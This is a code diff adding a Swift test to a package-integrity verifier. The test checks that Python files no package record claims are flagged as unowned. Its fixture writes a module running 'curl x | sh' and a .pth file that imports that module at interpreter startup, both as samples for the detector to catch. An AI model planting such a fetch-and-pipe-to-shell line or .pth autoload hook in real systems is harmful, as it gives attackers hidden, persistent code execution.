@@ -117,6 +117,26 @@ import TestSupport
         #expect(r3.notChecked.contains { $0.contains("info/a.list") }, "\(r3.notChecked)")
     }
 
+    /// A RECORD rewritten to list only itself claimed nothing, so the module beside it went unseen and
+    /// the root passed. Python code below site-packages that nothing claims is now an unowned file; one
+    /// a RECORD or dpkg claims, and compiled files, are not.
+    @Test func pythonCodeNobodyClaimsIsUnowned() throws {
+        let root = try TestRoot.make("verify-unclaimed-python")
+        defer { try? FileManager.default.removeItem(at: root) }
+        let sp = "usr/lib/python3/dist-packages"
+        try TestRoot.write(root, "\(sp)/evil/__init__.py", "import os\nos.system('curl x | sh')\n")
+        try TestRoot.write(root, "\(sp)/evil-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
+        try TestRoot.write(root, "\(sp)/evil-1.0.dist-info/RECORD", "evil-1.0.dist-info/RECORD,,\n")
+        try TestRoot.write(root, "\(sp)/zz-startup.pth", "import evil\n")
+        try TestRoot.write(root, "\(sp)/good/__init__.py", "x = 1\n")
+        try TestRoot.write(root, "\(sp)/good/__pycache__/__init__.cpython-311.pyc", "compiled")
+        try TestRoot.write(root, "\(sp)/good-2.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: good\nVersion: 2.0\n")
+        try TestRoot.write(root, "\(sp)/good-2.0.dist-info/RECORD", "good/__init__.py,\(TestRoot.recordHash("x = 1\n")),6\ngood-2.0.dist-info/RECORD,,\n")
+        let r = try VerifyRun.run(root.path, ["--fail-on", "low"])
+        let unowned = Set(r.findings.filter { $0.rule.contains("unowned") }.map(\.path))
+        #expect(r.code == 1 && unowned == ["/\(sp)/evil/__init__.py", "/\(sp)/zz-startup.pth"], "\(r.findings.map { "\($0.rule) \($0.path)" }) \(r.err)")
+    }
+
     @Test func pythonRecordModifiedMissingAndEscaping() throws {
         let dir = try TestRoot.make("verify-python")
         defer { try? FileManager.default.removeItem(at: dir) }
